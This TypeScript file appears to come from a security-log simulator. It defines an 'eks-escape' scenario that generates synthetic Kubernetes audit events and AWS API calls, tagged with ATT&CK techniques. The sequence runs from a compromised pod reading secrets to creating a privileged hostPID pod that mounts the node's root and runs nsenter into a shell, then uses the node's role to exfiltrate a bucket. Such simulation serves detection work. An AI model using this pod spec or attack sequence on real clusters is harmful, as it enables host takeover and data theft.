import { auditEvent, type Cluster, clusterHum } from '../attack/cluster';
import { downloadBucket } from '../attack/exfiltration';
import { askWhoAmI } from '../attack/reconnaissance';
import { takeInstanceSession } from '../attack/stolen-session';
import type { Random } from '../random/random';
import type { Stage } from '../stage/stage';
import { DAY, HOUR, MINUTE } from '../world/calendar';
import { defineScenario } from './scenario';

interface Break {
  readonly stage: Stage;
  readonly cluster: Cluster;
  readonly random: Random;
  readonly from: number;
}

/** From a pod with a hole: its account asks what it may, reads secrets, starts a pod that holds the node's disk. */
function breakOut({ stage, cluster, random, from }: Break): number {
  const node = cluster.nodes[0];
  const namespace = random.pick(stage.world.firm.products);
  const account = random.pick(['default', 'web', 'api-runner']);
  const pod = {
    username: `system:serviceaccount:${namespace}:${account}`,
    groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
    address: node?.privateIp ?? '10.0.0.9',
    agent: random.pick([
      'curl/7.88.1',
      'kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3',
      'python-requests/2.31.0',
    ]),
  };
  let time = from;
  const ask = (request: Parameters<typeof auditEvent>[3]['request']): void => {
    time += random.int(5, 90);
    auditEvent(stage, cluster, pod, { time, request }, random);
  };
  ask({ verb: 'create', resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' });
  ask({ verb: 'list', resource: 'secrets', code: 403 });
  ask({ verb: 'list', resource: 'secrets', namespace });
  ask({ verb: 'get', resource: 'secrets', namespace, name: 'db-credentials' });
  ask({ verb: 'list', resource: 'pods', namespace });
  ask({ verb: 'list', resource: 'nodes', code: 403 });
  const name = random.pick(['debug', 'node-shell', 'tmp-pod']);
  ask({
    verb: 'create',
    resource: 'pods',
    namespace,
    body: {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: { name, namespace },
      spec: {
        hostPID: true,
        hostNetwork: true,
        containers: [
          {
            name,
            image: 'alpine:3.19',
            command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'],
            securityContext: { privileged: true },
            volumeMounts: [{ name: 'host', mountPath: '/host' }],
          },
        ],
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
      },
    },
  });
  ask({
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace,
    name,
    code: 101,
    query: '?command=sh&container=debug&stdin=true&stdout=true&tty=true',
  });
  return time;
}

export default defineScenario({
  id: 'eks-escape',
  title: 'Out of a container',
  description:
    'A pod with a hole: its account reads secrets and starts a privileged pod; the node’s role is then used from outside.',
  play(stage) {
    const incident = stage.incident('eks-escape');
    const random = stage.random.fork('eks');
    const workers = stage.world.hosts.filter((h) => h.kind === 'worker' || h.kind === 'app');
    const host = random.pick(workers);
    const { network } = host;
    const nodes = [host, ...workers.filter((h) => h !== host && h.network === network).slice(0, 2)];
    const cluster = { name: `${random.pick(stage.world.firm.products)}-cluster`, network, nodes };
    const until = Math.min(stage.opening + DAY, stage.world.end);
    clusterHum(
      stage,
      cluster,
      { from: Math.max(stage.world.start, stage.opening - 2 * DAY), until },
      random.fork('hum'),
    );
    const out = breakOut({ stage, cluster, random: random.fork('break'), from: stage.opening });
    incident.addTechniques('T1611', 'T1552.007', 'T1609', 'T1610', 'T1613');
    const from = out + random.int(3, 40) * MINUTE;
    const { actor } = takeInstanceSession(stage, { host, from }, incident);
    askWhoAmI(actor, incident);
    actor.call('ec2:DescribeInstances', { request: { instancesSet: {}, filterSet: {} } });
    actor.call('eks:ListClusters', { request: {} });
    actor.call('ecr:DescribeRepositories', { request: { maxResults: 100 } });
    actor.call('ecr:GetAuthorizationToken', { request: {} });
    actor.deny('iam:ListRoles', `arn:aws:iam::${network.account.id}:role/`);
    actor.call('s3:ListBuckets', { request: { Host: 's3.amazonaws.com' } });
    incident.addTechniques('T1580', 'T1526');
    const bucket = random.pick(network.account.buckets.filter((b) => b.sensitive));
    actor.pause(random.int(1, 5) * HOUR);
    downloadBucket(actor, network.account, bucket, { objects: random.int(40, 160), incident });
  },
});
